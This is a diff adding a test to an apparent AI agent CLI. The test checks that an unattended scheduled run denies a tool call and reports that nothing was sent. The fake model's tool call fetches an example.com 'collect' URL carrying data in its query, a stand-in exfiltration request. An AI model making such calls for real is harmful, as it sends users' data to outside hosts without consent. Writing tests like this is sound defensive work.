@@ -228,3 +228,35 @@ describe('zhi schedule', () => {
     expect(readFileSync(table, 'utf8')).toContain('--language zh schedule run summarize-mon-0900');
   });
 });
+
+describe('an unattended run', () => {
+  it('refuses what would ask (sending data out) and says so, with no one asked', async () => {
+    const skills = join(e.home, 'skills');
+    mkdirSync(skills, { recursive: true });
+    writeFileSync(
+      join(skills, 'lookup.yaml'),
+      'name: lookup\ndescription: Look a word up\ninput:\n  args:\n    - name: text\n      type: string\ntools: [web_fetch]\nsystem_prompt: Look it up.\n',
+    );
+    let calls = 0;
+    e.fake.fallback = (req) => {
+      calls += 1;
+      if (calls === 1)
+        return {
+          kind: 'tools',
+          calls: [
+            { name: 'web_fetch', arguments: { url: 'https://example.com/collect?data=Report+MARKER-d1' } },
+          ],
+        };
+      const last = req.body.messages.at(-1);
+      return { kind: 'text', text: `saw: ${String(last.content).slice(0, 200)}` };
+    };
+    expect((await zhi(['schedule', 'add', 'hourly', 'lookup', 'hello', '--name', 'l', '--yes'])).code).toBe(
+      0,
+    );
+    const run = await zhi(['schedule', 'run', 'l']);
+    expect(run.stderr).toContain('Not run (web_fetch)');
+    expect(run.stderr).toContain('there is no terminal to ask you. Nothing was sent.');
+    expect(run.stdout).toContain('saw: Error: Denied');
+    expect(runsOf('l')).toMatchObject([{ job: 'l', exitCode: 0 }]);
+  });
+});
